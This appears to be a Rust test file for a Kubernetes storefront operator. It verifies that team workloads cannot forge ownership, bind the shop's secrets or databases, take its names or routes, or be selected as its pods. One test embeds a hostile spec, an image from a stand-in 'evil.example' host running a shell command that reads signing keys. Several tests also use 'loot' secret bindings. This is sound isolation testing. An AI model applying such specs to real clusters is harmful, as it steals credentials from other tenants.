//! Whoever may create a ServiceDeployment or a DatabaseBinding does not thereby own the shop.

use std::sync::Arc;

use crds::{ServiceBinding, ServiceDeployment, Storefront};
use kube::core::ResourceExt;
use operator_plan::{Objects, Planned, Verdict, objects::owner_of, service_deployment, storefront};
use serde_json::json;

use crate::fixtures::{around, children, example, migrated, platform, shop, shops, valid_shop};

/// A team's workload.
fn team() -> ServiceDeployment {
    example("team-service-smallest.yaml").pop().expect("one")
}

fn own(shop: &Storefront, name: &str) -> ServiceDeployment {
    let mut all = children(shop).into_iter();
    all.find(|service| service.name_any() == name)
        .expect("the shop has it")
}

fn refusal(service: &ServiceDeployment, seen: &service_deployment::Observed) -> (String, String) {
    match service_deployment::validate(service, seen, &platform()) {
        Verdict::Invalid(why) => (why.reason.to_owned(), why.message),
        other => panic!("not refused: {other:?}"),
    }
}

fn binding(fields: serde_json::Value) -> ServiceBinding {
    serde_json::from_value(fields).expect("a binding")
}

#[test]
fn an_owner_reference_does_not_make_a_service_one_of_the_shop() {
    let shop = shop("storefront.yaml");
    let mut forged = team();
    forged.metadata.owner_references = Some(vec![owner_of(&shop)]);
    forged.metadata.labels = own(&shop, "demo-order").metadata.labels;
    let taken = json!([{ "path": "/v1/orders", "auth": "Public" }]);
    forged.spec.routes = serde_json::from_value(taken).expect("routes");
    let (reason, message) = refusal(&forged, &around(&forged, &shop));
    assert_eq!(reason, "PathTaken");
    assert!(message.contains("/v1/orders"), "{message}");
}

/// What is planned for one of the shop's own services.
fn plan(service: &ServiceDeployment, shop: &Storefront) -> Objects<Planned> {
    // What is around it is read by what the shop asks for.
    let asked = service_deployment::effective(service, shop, &platform()).expect("a valid shop");
    let seen = migrated(&asked, shop);
    let valid = service_deployment::validate(service, &seen, &platform());
    service_deployment::desired(&valid.ready().expect("valid"))
}

#[test]
fn what_is_written_into_a_service_of_the_shop_changes_nothing_that_runs() {
    let shop = shop("storefront.yaml");
    let auth = own(&shop, "demo-auth");
    let as_asked = plan(&auth, &shop);
    let mut edited = auth.clone();
    let theirs = json!({
        "storefrontRef": { "name": "demo" },
        "image": "evil.example/steals-keys:1",
        "command": ["sh", "-c", "cat /bindings/signing-keys/*"],
        "args": ["-c"],
        "env": [{ "name": "LOG", "value": "trace" }],
        "routes": [{ "path": "/v1/reviews", "auth": "Public" }],
        "bindings": [{ "name": "postgres-admin", "secretRef": { "name": "demo-postgres-admin" } }],
        "egressPorts": [443],
        "imagePullSecrets": [{ "name": "theirs" }],
        "probes": { "livenessPath": "/nothing" },
    });
    edited.spec = serde_json::from_value(theirs).expect("a spec");
    assert_eq!(plan(&edited, &shop), as_asked);
}

#[test]
fn every_service_of_a_shop_runs_as_it_is_planned() {
    for file in shops() {
        let shop = shop(&file);
        for child in children(&shop) {
            let asked = service_deployment::effective(&child, &shop, &platform());
            let asked = asked.expect("a valid shop");
            assert_eq!(asked.spec, child.spec, "{file}: {}", child.name_any());
        }
    }
}

#[test]
fn no_secret_of_a_shop_can_be_bound() {
    let shop = shop("storefront-full.yaml");
    let name = shop.name_any();
    let own = [
        "signing-keys",
        "postgres-admin",
        "internal",
        "admin",
        "nats-auth",
        "nats-logins",
        "nats-routes",
        "nats-config",
        "redis-auth",
        "redis-logins",
        "redis-config",
        "smtp",
        "tls",
        "recovery",
    ];
    let own = own.map(|part| format!("{name}-{part}"));
    let referred = storefront::needs(&shop).referenced;
    assert!(!referred.is_empty());
    let pulls = shop.spec.image_pull_secrets.iter();
    let pulls: Vec<String> = pulls.map(|pull| pull.name.clone()).collect();
    assert!(!pulls.is_empty());
    for secret in own.into_iter().chain(referred).chain(pulls) {
        let mut service = team();
        service.spec.storefront_ref.name.clone_from(&name);
        service.spec.bindings = vec![binding(
            json!({ "name": "loot", "secretRef": { "name": secret } }),
        )];
        let (reason, message) = refusal(&service, &around(&service, &shop));
        assert_eq!(reason, "SecretNotAllowed", "{secret}");
        let begin = format!("spec.bindings: the Secret {secret} belongs to Storefront {name}");
        assert!(message.starts_with(&begin), "{message}");
    }
}

#[test]
fn nor_can_one_of_a_shop_that_the_service_does_not_belong_to() {
    let (mut other, mine) = (shop("storefront.yaml"), shop("storefront.yaml"));
    other.metadata.name = Some("other".into());
    let mut service = team();
    let secret = json!({ "name": "loot", "secretRef": { "name": "other-signing-keys" } });
    service.spec.bindings = vec![binding(secret)];
    let mut seen = around(&service, &mine);
    seen.shops.push(Arc::new(other));
    assert_eq!(refusal(&service, &seen).0, "SecretNotAllowed");
}

#[test]
fn nor_can_a_secret_that_nobody_allowed_that_the_operator_made_or_that_administers_a_server() {
    let shop = shop("storefront.yaml");
    let mut service = team();
    let secret = json!({ "name": "loot", "secretRef": { "name": "reviews-db" } });
    service.spec.bindings = vec![binding(secret)];
    let mut seen = around(&service, &shop);
    let (reason, message) = refusal(&service, &seen);
    assert_eq!(reason, "SecretNotAllowed");
    let label = "have its owner allow that with the label storefront.dev/mountable: \"true\"";
    assert!(message.ends_with(label), "{message}");
    seen.mountable.insert("reviews-db".into());
    let valid = service_deployment::validate(&service, &seen, &platform());
    assert!(valid.ready().is_some(), "a Secret of the team is bound");
    let mut made = seen.clone();
    made.made.insert("reviews-db".into());
    assert_eq!(refusal(&service, &made).0, "SecretNotAllowed");
    let mut administers = seen;
    administers.administrators.insert("reviews-db".into());
    assert_eq!(refusal(&service, &administers).0, "SecretNotAllowed");
}

#[test]
fn no_database_of_a_shop_can_be_bound() {
    let shop = shop("storefront.yaml");
    let mut service = team();
    service.spec.bindings = vec![binding(json!({ "databaseBinding": "demo-auth" }))];
    let (reason, message) = refusal(&service, &around(&service, &shop));
    assert_eq!(reason, "BindingNotAllowed");
    assert!(message.contains("spec.services"), "{message}");
}

#[test]
fn no_service_is_called_like_an_object_of_a_shop() {
    let mut other = shop("storefront.yaml");
    other.metadata.name = Some("other".into());
    let shop = shop("storefront.yaml");
    for name in [
        "demo-postgres",
        "demo-nats",
        "demo-redis",
        "demo-gateway",
        "other-auth",
    ] {
        let mut service = team();
        service.metadata.name = Some(name.into());
        let mut seen = around(&service, &shop);
        seen.shops.push(Arc::new(other.clone()));
        let (reason, message) = refusal(&service, &seen);
        assert_eq!(reason, "NameTaken", "{name}");
        assert!(message.contains(name), "{message}");
    }
}

#[test]
fn a_database_that_somebody_made_under_the_shops_name_is_not_used() {
    let shop = shop("storefront.yaml");
    let auth = own(&shop, "demo-auth");
    for theirs in [
        json!({ "serverRef": { "adminSecret": { "name": "theirs" } } }),
        json!({ "serverRef": { "storefront": "demo" }, "database": "theirs" }),
        json!({ "serverRef": { "storefront": "demo" }, "database": "x", "access": "ReadWrite" }),
    ] {
        let mut seen = migrated(&auth, &shop);
        let found = seen.bindings.get_mut("demo-auth").expect("observed");
        Arc::make_mut(found).spec = serde_json::from_value(theirs).expect("a spec");
        match service_deployment::validate(&auth, &seen, &platform()) {
            Verdict::Waiting(on) => assert_eq!(on.reason, "BindingNotTheShops"),
            other => panic!("not waited for: {other:?}"),
        }
    }
}

#[test]
fn no_team_receives_the_codes_that_confirm_addresses_of_others() {
    let shop = shop("storefront.yaml");
    let mut service = team();
    service.spec.uses = vec![crds::Uses::Bus];
    let events = json!({ "subscribes": ["user.registered.v1", "registration.requested.v1"] });
    service.spec.events = serde_json::from_value(events).expect("events");
    let (reason, message) = refusal(&service, &around(&service, &shop));
    assert_eq!(reason, "EventNotAllowed");
    assert!(message.contains("registration.requested.v1"), "{message}");
}

/// Labels by which an object of the shop finds pods, where it looks for those of one workload.
fn selector(item: &Planned) -> Option<serde_json::Map<String, serde_json::Value>> {
    let spec = &item.body["spec"];
    let found = match item.key.kind.as_str() {
        "Service" => &spec["selector"],
        "Deployment" | "StatefulSet" | "PodDisruptionBudget" => &spec["selector"]["matchLabels"],
        _ => return None,
    };
    found.as_object().cloned()
}

#[test]
fn no_pod_of_a_team_is_taken_for_one_of_the_shop_whatever_its_service_is_called() {
    let shop = shop("storefront.yaml");
    let mut objects = storefront::desired(&valid_shop(&shop)).items;
    for child in children(&shop) {
        objects.extend(plan(&child, &shop).items);
    }
    let selectors: Vec<_> = objects.iter().filter_map(selector).collect();
    assert!(selectors.len() > 20, "{}", selectors.len());
    for name in [
        "postgres",
        "nats",
        "redis",
        "gateway",
        "auth",
        "demo",
        "demo-auths",
    ] {
        let mut service = team();
        service.metadata.name = Some(name.into());
        // Labels of the object are anybody's to write: pods do not get them.
        service.metadata.labels = own(&shop, "demo-auth").metadata.labels;
        let planned = plan(&service, &shop);
        let mut deployments = planned.items.iter();
        let pods = deployments.find(|item| item.key.kind == "Deployment");
        let labels = &pods.expect("planned").body["spec"]["template"]["metadata"]["labels"];
        for selector in &selectors {
            let is_selected = selector.iter().all(|(key, value)| labels[key] == *value);
            assert!(!is_selected, "{name} is selected by {selector:?}");
        }
    }
}
